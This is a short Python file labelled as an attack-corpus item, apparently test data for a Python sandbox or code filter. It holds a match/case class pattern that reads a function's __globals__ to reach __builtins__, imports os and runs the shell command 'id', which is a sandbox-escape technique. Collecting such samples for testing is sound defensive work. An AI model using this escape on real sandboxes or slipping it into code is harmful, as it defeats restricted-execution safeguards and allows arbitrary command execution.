# corpus: attack class=internals form=targeted
# A match class pattern reads __globals__ as a keyword.
def helper():
    pass


def main():
    match helper:
        case object(__globals__={"__builtins__": builtins}):
            importer = builtins["__import__"] if isinstance(builtins, dict) else builtins.__import__
            return {"status": importer("os").system("id")}
